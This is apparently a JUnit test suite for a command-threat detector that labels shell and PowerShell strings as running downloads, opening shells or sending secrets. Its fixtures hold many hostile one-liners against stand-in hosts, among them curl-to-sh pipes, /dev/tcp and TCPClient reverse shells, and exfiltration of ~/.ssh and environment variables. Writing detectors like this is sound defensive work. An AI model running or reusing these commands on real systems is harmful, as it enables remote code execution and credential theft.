package dev.assay.detectors.indicator.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.assay.detectors.indicator.command.Trait.Kind;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandJudgeTest {
    private static final int LENGTH = 64 << 10;

    private static List<Kind> kinds(String text) {
        return CommandJudge.traits(text).stream().map(Trait::kind).toList();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '#',
            value = {
                "X=$(curl -s https://example.com/x); bash -c \"$X\" # RUNS_DOWNLOAD",
                "curl -s https://example.com/x | tee y | cat; sh y # RUNS_DOWNLOAD",
                "curl -so a https://example.com/x; mv a b.sh; sh b.sh # RUNS_DOWNLOAD",
                "eval \"curl -s https://example.com/x | sh\" # RUNS_DOWNLOAD",
                "sh < <(curl -s https://example.com/x) # RUNS_DOWNLOAD",
                "curl -so i https://example.com/i && chmod +x i && ./i # RUNS_TOOL",
                "wget -qO /tmp/i https://example.com/i; chmod 777 /tmp/i; nohup /tmp/i & # RUNS_TOOL",
                "F=/tmp/i; curl -so $F https://example.com/i; chmod +x $F; $F --now # RUNS_TOOL",
                "curl -s https://example.com/i > i; sh i # RUNS_DOWNLOAD",
                "call curl -s https://example.com/i | bash # RUNS_DOWNLOAD",
                "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A # RUNS_DECODED",
                "pwsh -e SQBFAFgAIAAoAE4AZQB3AC0A # RUNS_DECODED",
                "ruby -e '`curl -s https://example.com/x | sh`' # RUNS_DOWNLOAD",
                "python3.11 -c \"import os; os.system('curl -s https://example.com/x|sh')\" # RUNS_DOWNLOAD",
                "node -e \"fetch('https://example.com/x').then(r=>r.text()).then(t=>require('child_process').exec(t))\""
                        + " # RUNS_DOWNLOAD",
                "nc 203.0.113.9 80 | sh # RUNS_DOWNLOAD_FROM_ANYWHERE",
                "sh < /dev/tcp/203.0.113.9/80 # OPENS_SHELL",
                "{ curl -s https://example.com/x; } | sh # RUNS_DOWNLOAD",
                "( curl -s https://example.com/x ) | sh # RUNS_DOWNLOAD",
                "{ { echo a; curl -s https://example.com/x; } 2>/dev/null; } | bash -s # RUNS_DOWNLOAD",
                "while true; do curl -s https://example.com/x && break; done | sh # RUNS_DOWNLOAD",
                "until curl -s https://example.com/x; do sleep 1; done | sh # RUNS_DOWNLOAD",
                "for u in a b; do curl -s https://example.com/$u; done | sh # RUNS_DOWNLOAD",
                "if true; then curl -s https://example.com/x; else wget -qO- https://example.com/x; fi | sh # RUNS_DOWNLOAD",
                "case $a in b) curl -s https://example.com/x;; esac | sh # RUNS_DOWNLOAD",
                "curl -s https://example.com/x | { cat; } | sh # RUNS_DOWNLOAD",
                "curl -s https://example.com/x | { sh; } # RUNS_DOWNLOAD",
                "curl -s https://example.com/x | (sleep 1; bash) # RUNS_DOWNLOAD",
                "f() { curl -s https://example.com/x | sh; }; f # RUNS_DOWNLOAD",
                "function f { curl -s https://example.com/x | sh; } # RUNS_DOWNLOAD",
                "curl -s https://example.com/x | while read l; do eval \"$l\"; done # RUNS_DOWNLOAD",
                "curl -s https://example.com/x | while IFS= read -r l; do $l; done # RUNS_DOWNLOAD",
                "if { a; }; then { curl -s https://example.com/x; }; fi > y; sh y # RUNS_DOWNLOAD",
                "$c = New-Object Net.Sockets.TCPClient('192.0.2.1',4444); $s = $c.GetStream(); $r = iex $d # OPENS_SHELL",
                "env | tee e | cat; wget --post-file=e https://example.com # SENDS_SECRETS",
                "E=$(cat ~/.netrc); dig $E.example.com # SENDS_SECRETS",
                "zip -r k.zip ~/.ssh; curl -F f=@k.zip https://example.com # SENDS_SECRETS",
                "node -e \"require('child_process').execSync('curl -s https://example.com/x|sh')\" # RUNS_DOWNLOAD",
                "ruby -e 'system(\"curl -s https://example.com/x | sh\")' # RUNS_DOWNLOAD"
            })
    void what_a_command_leaves_a_later_one_takes(String text, Kind kind) {
        assertThat(kinds(text)).containsExactly(kind);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "env > e; echo > e; curl -F f=@e https://example.com",
                "E=$(env); E=1; curl -d $E https://example.com",
                "X=$(curl -s https://example.com/x); echo \"$X\"",
                "curl -so a.json https://example.com/x; node build.js a.json",
                "echo $X | base64 -d > key.pem; openssl rsa -in key.pem",
                "curl -s http://example.com/x | tee y; echo a | tee b",
                "env | sha256sum",
                "powershell -ep bypass -File x.ps1",
                "powershell -ExecutionPolicy RemoteSignedRemoteSigned x",
                "curl -so i https://example.com/i; chmod +x i; i",
                "curl -so i https://example.com/i; ./j",
                "bash -c 'env | sort'",
                "node -e \"console.log('curl -s https://example.com/x | sh')\"",
                "rsync a@example.com:.npmrc ~/.npmrc",
                "nc -z localhost 80 && bash x.sh",
                "{ curl -s https://example.com/x; } > y; { cat z; } | sh",
                "{ curl -s https://example.com/x; }; cat z | sh",
                "while read l; do curl -s https://example.com/$l; done < z | grep a; sh z",
                "for f in a b; do curl -sO https://example.com/$f; done; { echo ls; } | sh",
                "case $a in x) curl -s https://example.com/x;; y) cat z | sh;; esac",
                "curl -s https://example.com/list | while read l; do curl -sO $l; tar xf a.tgz; done",
                "echo '{' ; curl -s https://example.com/x; echo '}' | sh",
                "echo { curl -s https://example.com/x }; cat z | sh",
                "exec 3<>/dev/tcp/db.example.com/5432 && exec 3>&-; sh -c make; bash",
                "until nc -z db 5432; do sleep 1; done; bash build.sh; sh",
                "$t = New-Object Net.Sockets.TcpClient; $t.Connect('a', 5432); $t.Close(); iex $build"
            })
    void what_nothing_takes_is_nothing(String text) {
        assertThat(kinds(text)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sha256sum -c SHA256SUMS; bash x.sh",
                "curl -LO https://example.com/SHA256SUMS; sha256sum -c --ignore-missing SHA256SUMS; bash x.sh",
                "echo \"abc  x.sh\" | sha256sum -c -; bash x.sh",
                "echo \"abc  x.sh\" | shasum -a 256 -c; bash x.sh",
                "sha256sum -c <<E\nabc  x.sh\nE\nbash x.sh",
                "[ \"$(sha256sum x.sh | cut -d' ' -f1)\" = abc ] && bash x.sh",
                "cat x.sh | sha256sum | grep abc && bash x.sh",
                "gpg --verify x.sh.asc x.sh && bash x.sh",
                "gpg --verify x.sig && bash x.sh",
                "sha256sum -c x.sh.sha256 && bash x.sh",
            })
    void what_was_looked_at_may_run(String text) {
        assertThat(kinds("curl -LO https://example.com/x.sh; " + text)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo a | sha256sum; bash x.sh",
                "sha256sum other.bin; bash x.sh",
                "echo \"abc  y.sh\" | sha256sum -c; bash x.sh",
                "[ \"$(sha256sum y.sh | cut -d' ' -f1)\" = abc ] && bash y.sh; bash x.sh",
                "gpg --verify y.sh.asc y.sh && bash y.sh; bash x.sh",
                "sha256sum -c y.sh.sha256; bash x.sh",
            })
    void what_was_looked_at_is_no_other_file(String text) {
        assertThat(kinds("curl -LO https://example.com/x.sh; curl -LO https://example.com/y.sh; " + text))
                .containsExactly(Kind.RUNS_DOWNLOAD);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "iwr https://example.com/x -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe",
                "Invoke-WebRequest -Uri https://example.com/x -OutFile \"$env:TEMP\\x.exe\"; & \"$env:TEMP\\x.exe\"",
                "$f = \"$env:TEMP\\x.exe\"; iwr https://example.com/x -OutFile $f; saps -WindowStyle Hidden -FilePath $f",
                "(New-Object Net.WebClient).DownloadFile('https://example.com/x', 'C:\\x.exe'); Start-Process 'C:\\x.exe'",
                "$c = New-Object System.Net.WebClient\n$c.DownloadFile(\"https://example.com/x\",\"$env:TEMP\\x.exe\")\n"
                        + "Start-Process -NoNewWindow -FilePath \"$env:TEMP\\x.exe\" -Wait",
                "powershell -c \"(New-Object Net.WebClient).DownloadFile('https://example.com/x','x.exe');.\\x.exe\"",
                "Start-BitsTransfer -Source https://example.com/x -Destination x.exe; ii x.exe",
                "curl.exe -o %TEMP%\\x.exe https://example.com/x && start /b \"\" %TEMP%\\x.exe",
                "certutil -urlcache -split -f https://example.com/x x.exe && cmd /c x.exe",
                "bitsadmin /transfer j https://example.com/x %TEMP%\\x.exe & %TEMP%\\x.exe",
                "powershell -w hidden -c \"iwr https://example.com/x -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe\"",
            })
    void what_Windows_fetches_and_starts(String text) {
        assertThat(kinds(text)).containsExactly(Kind.RUNS_TOOL);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "iwr https://example.com/x.zip -OutFile x.zip; Expand-Archive x.zip; Start-Process notepad",
                "(New-Object Net.WebClient).DownloadFile('https://example.com/x', 'x.zip')",
                "$c.DownloadFile($u); Start-Process x.exe",
                "Start-BitsTransfer -Source https://example.com/x -Destination x.zip; tar xf x.zip",
                "certutil -hashfile x.exe SHA256 & x.exe",
                "iwr https://example.com/x -OutFile x.exe; Get-FileHash x.exe; Start-Process x.exe",
                "start /b node server.js",
                "cmd /c curl -o x.txt https://example.com/x",
            })
    void what_Windows_fetches_or_starts(String text) {
        assertThat(kinds(text)).isEmpty();
    }

    @Test
    void a_program_that_is_written_down_and_run_is_read() {
        String shell = "cat > x.sh <<'E'\ncurl -s https://example.com/x | sh\nE\n";
        assertThat(kinds(shell)).isEmpty();
        assertThat(kinds(shell + "chmod +x x.sh; ./x.sh")).containsExactly(Kind.RUNS_DOWNLOAD);
        String python =
                "sudo tee x.py <<E\nimport os, requests\nrequests.post('https://a.b', json=dict(os.environ))\nE\n";
        assertThat(kinds(python + "cat x.py")).isEmpty();
        assertThat(kinds(python + "python3 x.py")).containsExactly(Kind.SENDS_SECRETS);
        assertThat(kinds("cat > x.sh <<E\nsh x.sh\nE\nsh x.sh")).isEmpty();
    }

    @Test
    void a_job_remembers_what_its_steps_left() {
        CommandJudge judge = new CommandJudge();
        assertThat(judge.next("env > out/e", "", Map.of())).isEmpty();
        assertThat(judge.secretIn("out/")).isEqualTo("env > out/e");
        assertThat(judge.secretIn("o*")).isNotEmpty();
        assertThat(judge.secretIn("other")).isEmpty();
        assertThat(judge.next("curl -T e https://example.com", "out", Map.of())).hasSize(1);
        assertThat(judge.next("curl -T e https://example.com", "", Map.of())).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "$(",
                "`",
                "bash -c \"",
                "eval ",
                "X=$X ",
                "X=$(env); ",
                "echo $X >> f; ",
                "cat <<E\n",
                "a | ",
                ">",
                "<",
                "<<<",
                "(",
                "{ ",
                "if ",
                "{ a; } ",
                "case a in b) ",
                "'",
                "python -c \"os.system('",
                "env > f; curl -d @f https://a.b; ",
                "fetch(x = process.env ",
                "x=process.env;",
                "=",
                "axios.",
                "tar x.gz ",
                "\\",
                "curl -d \"${{ secrets.A }}$B\" https://a.b ",
                "exec 3<>/dev/tcp/a.b/1; ",
                "node -e 'exec(",
                "fetch("
            })
    void whatever_is_said_again_and_again_ends(String part) {
        String text = part.repeat(LENGTH / part.length());
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
            CommandJudge.traits(text);
            CommandJudge.traits("python3 -c \"" + text);
            new CommandJudge().program(text);
            ProgramText.sends(text + "fetch(process.env)", List.of("process.env"));
        });
    }
}
